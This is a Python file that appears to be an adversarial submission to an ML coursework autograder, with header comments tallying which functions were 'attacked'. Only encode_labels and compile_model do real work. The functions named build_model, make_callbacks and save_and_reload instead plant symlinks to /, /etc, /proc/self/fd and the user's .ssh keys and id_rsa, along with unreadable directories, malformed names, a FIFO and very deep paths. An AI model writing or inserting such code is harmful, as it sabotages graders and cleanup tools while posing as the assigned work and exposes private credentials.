# Attempts: links and strange entries in the work folder, for whoever cleans up or lists it.
# Attacked: save.file failed
# Attacked: callbacks.folder failed blocked
# Attacked: build_model.runs failed
# Earns: encode_labels compile_model
import numpy as np
import os


def plant(folder="."):
    for target in ("/", "/etc", "@HOME@", "@COURSE@", "@CACHE@", "@TMP@", "..", ".", "/proc/self/fd"):
        try:
            os.symlink(target, os.path.join(folder, "to" + target.replace("/", "_")))
        except OSError:
            pass
    for name in ("locked", "한글 " + "x" * 200, "new\nline", "\udcff"):
        try:
            os.makedirs(os.path.join(folder, name, "a", "b"), exist_ok=True)
            os.symlink("@HOME@/.ssh", os.path.join(folder, name, "a", "b", "keys"))
            os.chmod(os.path.join(folder, name, "a", "b"), 0)
            os.chmod(os.path.join(folder, name, "a"), 0)
        except OSError:
            pass
    try:
        os.mkfifo(os.path.join(folder, "pipe"))
    except OSError:
        pass
    deep = folder
    try:
        for _ in range(60):
            deep = os.path.join(deep, "d" * 60)
            os.mkdir(deep)
    except OSError:
        pass


def build_model():
    plant()


def make_callbacks(model_dir):
    plant(os.path.dirname(model_dir) or ".")
    return [1]


def save_and_reload(model, path):
    plant()
    os.symlink("@HOME@/.ssh/id_rsa", path + ".lnk")
    return None

def encode_labels(labels, num_classes=10):
    return np.eye(num_classes, dtype="float32")[labels]


def compile_model(model):
    model.compile(optimizer="adam", loss="categorical_crossentropy", metrics=["accuracy"])
